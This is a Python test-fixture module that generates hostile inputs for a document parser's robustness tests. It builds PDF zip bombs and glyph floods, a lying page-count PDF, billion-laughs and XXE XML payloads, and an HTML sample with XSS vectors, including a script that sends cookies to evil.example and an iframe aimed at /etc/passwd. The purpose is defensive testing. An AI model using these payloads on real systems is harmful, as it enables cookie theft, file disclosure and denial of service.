"""Hostile files made for the robustness tests and scripts/robustness.py: PDFs that lie, bomb or
flood, XML entity attacks, markup meant to run. Each is written from the format's public
description for the project."""
from __future__ import annotations

import zlib
from pathlib import Path

from .made_documents import pdf_document as _pdf


def _page_stream(text: str) -> bytes:
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode("latin-1")
    return b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream"


def lying_page_count_pdf() -> bytes:
    """One real page, but /Count claims a billion and the Kids array repeats the page 5000 times."""
    kids = b" ".join([b"3 0 R"] * 5000)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [" + kids + b"] /Count 1000000000 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        _page_stream("Geachte Voorzitter, dit is een pagina."),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def encrypted_pdf() -> bytes:
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        _page_stream("versleuteld"),
        b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -1 /O <" + b"41" * 32 + b"> /U <" + b"42" * 32 + b"> >>",
    ], trailer_extra=b"/Encrypt 5 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] ")


def zip_bomb_stream_pdf() -> bytes:
    """A content stream that inflates to 200 MB from a few hundred kB."""
    bomb = zlib.compress(b" " * (200 * 1024 * 1024), 9)
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream",
    ])


def billion_laughs() -> str:
    lines = ['<?xml version="1.0"?>', "<!DOCTYPE lolz [", ' <!ENTITY lol "lol">']
    lines.append(' <!ENTITY lol1 "' + "&lol;" * 10 + '">')
    for n in range(2, 10):
        lines.append(f' <!ENTITY lol{n} "' + f"&lol{n - 1};" * 10 + '">')
    lines += ["]>", "<officiele-publicatie><brief><al>&lol9;</al></brief></officiele-publicatie>"]
    return "\n".join(lines)


def external_entity(secret_file: Path) -> str:
    return (
        '<?xml version="1.0"?>\n'
        f'<!DOCTYPE brief [ <!ENTITY xxe SYSTEM "file://{secret_file}"> ]>\n'
        "<officiele-publicatie><metadata><meta name=\"DC.title\" content=\"Brief &xxe;\"/></metadata>"
        "<brief><onderwerp>&xxe;</onderwerp><al>Geachte Voorzitter, &xxe;</al></brief></officiele-publicatie>\n"
    )


HOSTILE_HTML = """<!doctype html><html><head><title>Brief <script>alert('titel')</script></title>
<script>document.location='http://evil.example/'+document.cookie</script></head>
<body onload="alert('body')"><h1 onclick="alert(1)">Kamerbrief over <img src=x onerror=alert(2)></h1>
<p>Datum 3 maart 2022</p><p>Ons kenmerk 1234567</p><p>Onderwerp Kwaadaardige opmaak</p>
<p>Geachte voorzitter, <a href="javascript:alert(3)">klik</a> &lt;script&gt;alert(4)&lt;/script&gt;</p>
<iframe src="file:///etc/passwd"></iframe><svg onload=alert(5)></svg></body></html>
"""


def _one_page(content: bytes, compress: bool = True) -> bytes:
    stream = zlib.compress(content, 9) if compress else content
    flate = b" /Filter /FlateDecode" if compress else b""
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d%s >>\nstream\n" % (len(stream), flate) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ])


def operator_bomb_pdf() -> bytes:
    """One page whose content stream inflates to 8 MB of text operators."""
    line = b"BT /F1 1 Tf 10 10 Td (Geachte Voorzitter) Tj ET\n"
    return _one_page(line * (8 * 2**20 // len(line)))


def _glyphs(count: int, string: bytes) -> bytes:
    """``count`` separately positioned copies of one string operand, in a text object."""
    shows = b"".join(b"1 0 0 1 %d %d Tm %s Tj\n" % (n % 500, n // 500 % 700, string) for n in range(count))
    return b"BT /F1 4 Tf\n" + shows + b"ET\n"


def glyph_flood_pdf() -> bytes:
    """One page with 60,000 separately positioned glyphs."""
    return _one_page(_glyphs(60_000, b"(x)"))


def hex_glyph_flood_pdf() -> bytes:
    """The same flood written as hexadecimal strings."""
    return _one_page(_glyphs(60_000, b"<78>"))


def escaped_dense_page_pdf() -> bytes:
    """A dense page, not a flood: 16,000 characters, each pair written as two octal escapes
    (as a two-byte font's codes often are), so the operands run to 80,000 bytes."""
    return _one_page(_glyphs(8_000, rb"(\101\102)"))
